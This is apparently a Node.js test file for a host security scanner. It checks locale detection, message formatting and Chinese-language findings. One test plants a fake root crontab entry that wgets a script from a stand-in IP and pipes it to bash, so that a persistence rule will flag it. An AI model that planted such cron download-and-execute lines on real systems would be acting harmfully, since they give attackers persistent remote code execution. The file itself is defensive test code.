import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FakeRoot } from '../../test/helpers/fake-root';
import { builtinIntel } from '../intel/intel';
import { scan } from '../scan';
import { detectLang, format } from './lang';

describe('languages', () => {
  it('--lang wins, then LC_ALL, LC_MESSAGES, LANG', () => {
    assert.equal(detectLang('en', { LANG: 'zh_CN.UTF-8' }), 'en');
    assert.equal(detectLang(undefined, { LC_ALL: 'zh_TW.UTF-8', LANG: 'en_US.UTF-8' }), 'zh-CN');
    assert.equal(detectLang(undefined, { LC_MESSAGES: 'C', LANG: 'zh_CN.UTF-8' }), 'en');
    assert.equal(detectLang(undefined, {}), 'en');
    assert.equal(detectLang(undefined, { LC_ALL: '', LANG: 'zh_CN.UTF-8' }), 'zh-CN', 'an empty LC_ALL is unset');
    assert.equal(detectLang(undefined, { LC_ALL: '', LC_MESSAGES: '', LANG: 'zh_CN.UTF-8' }), 'zh-CN');
  });

  it('fills placeholders, leaves unknown ones visible, translates known phrases', () => {
    assert.equal(format('{a} and {b}', { a: 1 }), '1 and {b}');
    assert.equal(format('计划任务{what}', { what: 'x' }, new Map([['x', '某事']])), '计划任务某事');
  });

  it('a Chinese finding shows the command pattern in Chinese, not English', async () => {
    const root = new FakeRoot().base().write('/var/spool/cron/crontabs/root', '*/30 * * * * wget -qO- http://198.51.100.7/m.sh | bash\n');
    try {
      const { result } = await scan({ root: root.dir, lang: 'zh-CN' });
      const f = result.findings.find((x) => x.rule === 'persistence/cron-download-exec');
      assert.match(f?.title ?? '', /下载脚本并直接交给 shell 执行/);
      assert.doesNotMatch(f?.title ?? '', /downloads a script/);
    } finally {
      root.remove();
    }
    for (const p of builtinIntel().commands.patterns) assert.ok(p.zh && /[\u4e00-\u9fff]/.test(p.zh), `${p.id} lacks Chinese wording`);
  });
});
